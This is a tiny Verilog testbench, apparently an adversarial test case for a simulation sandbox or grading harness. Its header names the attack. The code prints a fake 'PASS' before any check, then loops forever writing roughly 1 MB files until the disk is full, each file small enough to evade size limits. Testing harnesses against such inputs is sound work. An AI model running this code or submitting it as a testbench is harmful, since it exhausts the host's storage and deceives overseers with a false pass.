// run: simulate; ends: crash; attack: says PASS and fills the disk with files that are each small enough
module tb;
  integer fd, n, k;
  reg [8*12:1] name;
  initial begin
    $display("PASS");
    for (n = 0; 1; n = n + 1) begin
      $sformat(name, "f%0d", n);
      fd = $fopen(name, "w");
      for (k = 0; k < 1024; k = k + 1) $fwrite(fd, "%01024d", 0);
      $fclose(fd);
    end
  end
endmodule
